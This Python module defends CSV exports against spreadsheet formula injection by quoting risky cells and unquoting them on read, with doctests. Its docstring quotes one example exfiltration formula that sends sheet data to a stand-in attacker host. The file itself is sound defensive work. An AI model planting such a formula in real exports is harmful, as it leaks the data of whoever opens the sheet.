"""CSV cells that spreadsheets do not run as formulas, and read back unchanged.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets ("CSV injection", OWASP): a contact's name like
``=HYPERLINK("http://evil.example/?"&A1)`` would send the sheet's data away when staff open an
export. Such a cell is written with a leading ``'`` (OWASP's advice: the sheet shows the text),
and :func:`unprotect` removes exactly that quote again when ``contacts:`` reads the file.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["protect", "protect_row", "unprotect", "unprotect_row"]

# Quotes first so that the mapping is one-to-one: "'=x" (a quote of its own) is written
# "''=x" and read back as "'=x"; any other value that starts with a quote is left alone.
_RISKY = re.compile(r"'*[=+\-@\t\r]")


def protect(value: str) -> str:
    """``value`` as a spreadsheet-safe cell.

    >>> [protect(v) for v in ("=1+1", "+32 2 555 00 00", "-", "@home", "Ann", "O'Brien", "a=b")]
    ["'=1+1", "'+32 2 555 00 00", "'-", "'@home", 'Ann', "O'Brien", 'a=b']
    >>> protect("'=x")  # a quote of its own is kept: one more is added
    "''=x"
    """
    return "'" + value if _RISKY.match(value) else value


def unprotect(cell: str) -> str:
    """The value :func:`protect` wrote as ``cell``; any other cell unchanged.

    >>> [unprotect(c) for c in ("'=1+1", "'-", "''=x", "'plain", "O'Brien", "-")]
    ['=1+1', '-', "'=x", "'plain", "O'Brien", '-']
    """
    return cell[1:] if cell[:1] == "'" and _RISKY.match(cell, 1) else cell


def protect_row(values: Iterable[object]) -> list[str]:
    """A row of values (None as empty) as spreadsheet-safe cells."""
    return [protect(v if isinstance(v, str) else "" if v is None else str(v)) for v in values]


def unprotect_row(row: list[str]) -> list[str]:
    """A row read from CSV with the protective quotes removed (the row itself when it has none:
    most rows, so the common case costs one scan)."""
    if not any(c[:1] == "'" for c in row):
        return row
    return [unprotect(c) for c in row]
